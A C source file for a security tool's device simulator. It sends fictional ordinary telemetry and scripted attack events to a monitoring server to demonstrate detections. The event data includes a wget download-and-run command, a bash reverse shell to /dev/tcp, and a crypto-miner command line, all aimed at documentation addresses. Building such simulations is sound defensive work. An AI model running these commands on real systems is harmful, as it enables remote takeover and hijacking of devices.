#include "programs/commands.h"

#include <stdio.h>
#include <stdlib.h>

#include "programs/data_folder.h"
#include "programs/simulated.h"
#include "programs/table.h"
#include "runtime/buf.h"
#include "runtime/clock.h"
#include "runtime/process.h"

/* A few devices that do not exist: what they do all day, and in their first minute what attackers do. All they send and all that is found
 * in it is marked as simulated, and goes with one command. */
#define FEED_ADDRESS "203.0.113.66" /* one of rule_sample_indicators */
#define STEP_MS 1000
#define ORDINARY_EVERY_S 20
#define BODY_BYTES_MAX 65536
#define GONE_MAX 60 /* messages in a row that nobody took: the server is gone, or the devices are, and so are we */

static const char *const device_ids[] = {"simulated-camera", "simulated-router", "simulated-gateway", "simulated-plc", "simulated-sensor"};
enum device { CAMERA, ROUTER, GATEWAY, PLC, SENSOR, DEVICES };

/* `at_s` after the start; '#' in the payload stands for which of `times` it is. */
struct act {
    int at_s;
    enum device device;
    const char *name, *payload;
    int times;
};

#define PROCESS(executable, command) \
    "{\"Executable\":\"" executable "\",\"CommandLine\":\"" command "\",\"UserId\":\"0\",\"UserName\":\"root\",\"ProcessId\":4242,\"ParentProcessId\":1}"
#define CALL(address, port) \
    "{\"RemoteAddress\":\"" address "\",\"RemotePort\":\"" port "\",\"LocalAddress\":\"192.168.7.20\",\"LocalPort\":\"4010#\",\"Direction\":\"Out\",\"Protocol\":\"tcp\",\"ProcessId\":4242,\"Executable\":\"/tmp/.m\"}"
#define LOGIN(result) \
    "{\"ProcessId\":812,\"Operation\":\"login\",\"Executable\":\"/usr/sbin/dropbear\",\"Result\":\"" result "\",\"UserName\":\"root\",\"RemoteAddress\":\"198.51.100.23\",\"RemotePort\":\"5100#\"}"
#define PORT(port) "{\"Protocol\":\"tcp\",\"LocalAddress\":\"0.0.0.0\",\"LocalPort\":\"" port "\"}"

static const struct act attack[] = {
    {2, ROUTER, "ListeningPorts", PORT("22") "," PORT("80"), 1},
    {6, CAMERA, "ProcessCreate", PROCESS("/bin/busybox", "/bin/busybox ECCHI"), 1},
    {8, CAMERA, "ProcessCreate", PROCESS("/bin/sh", "sh -c cd /tmp || cd /var/run || cd /mnt; /bin/busybox wget http://198.51.100.7/m.arm7; chmod 777 m.arm7; ./m.arm7"), 1},
    {10, CAMERA, "ConnectionCreate", CALL("198.51.100.1#", "23"), 12},
    {14, ROUTER, "Login", LOGIN("Fail"), 9},
    {16, ROUTER, "Login", LOGIN("Success"), 1},
    {22, GATEWAY, "ProcessCreate", PROCESS("/tmp/.x/xmrig", "./xmrig -o stratum+tcp://198.51.100.40:3333 -u wallet --donate-level 1"), 1},
    {28, GATEWAY, "ProcessCreate", PROCESS("/bin/bash", "bash -i >& /dev/tcp/198.51.100.41/4444 0>&1"), 1},
    {34, PLC, "PeripheralUsb", "{\"ActionType\":\"ADD\",\"BusNumber\":1,\"KernelDeviceNumber\":4,\"DeviceClass\":8,\"DeviceSubClass\":6}", 1},
    {40, ROUTER, "ListeningPorts", PORT("22") "," PORT("80") "," PORT("4444"), 1},
    {46, SENSOR, "ConnectionCreate", CALL(FEED_ADDRESS, "48101"), 1},
};

static const struct act ordinary[] = {
    {0, CAMERA, "ProcessCreate", PROCESS("/usr/bin/streamer", "/usr/bin/streamer --profile main"), 1},
    {0, ROUTER, "ConnectionCreate",
     "{\"RemoteAddress\":\"192.0.2.123\",\"RemotePort\":\"123\",\"LocalAddress\":\"192.168.7.1\",\"LocalPort\":\"41000\",\"Direction\":\"Out\",\"Protocol\":\"udp\",\"ProcessId\":610,\"Executable\":\"/usr/sbin/ntpd\"}", 1},
    {0, GATEWAY, "ProcessCreate", PROCESS("/usr/sbin/logrotate", "logrotate /etc/logrotate.conf"), 1},
    {0, PLC, "ConnectionCreate",
     "{\"RemoteAddress\":\"192.168.7.2\",\"RemotePort\":\"502\",\"LocalAddress\":\"192.168.7.40\",\"LocalPort\":\"42000\",\"Direction\":\"Out\",\"Protocol\":\"tcp\",\"ProcessId\":77,\"Executable\":\"/opt/plc/run\"}", 1},
    {0, SENSOR, "ProcessCreate", PROCESS("/bin/busybox", "busybox udhcpc -i eth0 -n"), 1},
};

static enum cli_exit run_simulate(const struct cli *cli);
static enum cli_exit run_remove(const struct cli *cli);

#define WORKSPACE_FLAG {"workspace", "NAME", "Workspace (default: the token's own, where it has one)."}
static const struct cli_flag run_flags[] = {
    {"ordinary", NULL, "Only what devices do all day: no attack in the first minute."},
    WORKSPACE_FLAG,
};
static const struct cli_flag remove_flags[] = {WORKSPACE_FLAG};

const struct cli_verb simulate_verbs[] = {
    {"simulate run", "", "Be a handful of devices: ordinary traffic, and in the first minute attacks of the kinds that devices meet.",
     "Goes on until it is stopped. The devices are called simulated-…; all that is found on them says so.", CLI_FLAGS(run_flags), CLI_SERVER, 0, 0, run_simulate},
    {"simulate remove", "", "Remove the simulated devices with their events, alerts, incidents and feed.",
     "`picket up` starts no simulation in that data folder again.", CLI_FLAGS(remove_flags), CLI_SERVER | CLI_JSON, 0, 0, run_remove},
};
const size_t simulate_verb_count = sizeof simulate_verbs / sizeof simulate_verbs[0];

/* Messages in a row that nobody took. 401: the device was removed. */
static unsigned gone_after(unsigned gone, long code)
{
    return code == 204 ? 0 : code == 401 ? GONE_MAX : gone + 1;
}

static long act_send(struct simulator *simulator, const struct simulated *device, const struct act *act)
{
    struct buf payload, message;

    buf_init(&payload, BODY_BYTES_MAX);
    buf_init(&message, BODY_BYTES_MAX);
    for (int i = 1; i <= act->times; i++) {
        buf_string(&payload, i > 1 ? "," : "");
        for (const char *at = act->payload; *at; at++) {
            if (*at == '#')
                buf_i64(&payload, i);
            else
                buf_byte(&payload, *at);
        }
    }
    simulated_message_open(&message);
    simulated_message_event(&message, text_of(act->name), clock_utc_us(), buf_as_text(&payload));
    simulated_message_close(&message);
    long code = simulated_send(simulator, device, &message);
    buf_done(&message);
    buf_done(&payload);
    return code;
}

static enum cli_exit run_simulate(const struct cli *cli)
{
    struct simulated devices[DEVICES];
    struct simulator *simulator = NULL;
    struct problem why;
    unsigned gone = 0;
    size_t next = 0;

    process_catch_stop();
    enum status status = simulator_open(cli, &simulator, &why);
    for (int i = 0; !status && i < DEVICES; i++)
        status = simulated_open(simulator, device_ids[i], &devices[i], &why);
    if (!status)
        status = simulator_feed(simulator, &why);
    if (!status)
        fprintf(stderr, "%d simulated devices send; `picket simulate remove` takes them away\n", DEVICES);
    bool attacks = !cli_given(cli, "ordinary");
    for (int second = 0; !status && !process_wait_stop(STEP_MS) && gone < GONE_MAX; second++) {
        for (size_t i = 0; second % ORDINARY_EVERY_S == 1 && i < sizeof ordinary / sizeof *ordinary; i++)
            gone = gone_after(gone, act_send(simulator, &devices[ordinary[i].device], &ordinary[i]));
        for (; attacks && next < sizeof attack / sizeof *attack && attack[next].at_s <= second; next++)
            gone = gone_after(gone, act_send(simulator, &devices[attack[next].device], &attack[next]));
    }
    simulator_close(simulator);
    return cli_end(status, &why);
}

/* So that `picket up` does not start it again. */
static void removal_note(const struct cli *cli)
{
    char folder[DATA_PATH_SIZE], path[DATA_PATH_SIZE];

    if (cli_value(cli, "server") || getenv("PICKET_SERVER") || !data_folder_whole(data_folder_default(cli_value(cli, "data")), folder))
        return;
    data_folder_path(folder, SIMULATION_REMOVED, path);
    FILE *file = fopen(path, "we");
    if (file)
        fclose(file);
}

static enum cli_exit run_remove(const struct cli *cli)
{
    struct simulator *simulator = NULL;
    json_t *answer = NULL;
    struct problem why;

    removal_note(cli);
    enum status status = simulator_open(cli, &simulator, &why);
    if (!status)
        status = simulator_call(simulator, "DELETE", "/v1/simulation", NULL, &answer, &why);
    if (!status && cli_given(cli, "json"))
        table_json_line(answer);
    else if (!status)
        printf("removed %lld devices, %lld alerts, %lld events\n", (long long)json_integer_value(json_object_get(answer, "devices")),
               (long long)json_integer_value(json_object_get(answer, "alerts")), (long long)json_integer_value(json_object_get(answer, "events")));
    json_decref(answer);
    simulator_close(simulator);
    return cli_end(status, &why);
}
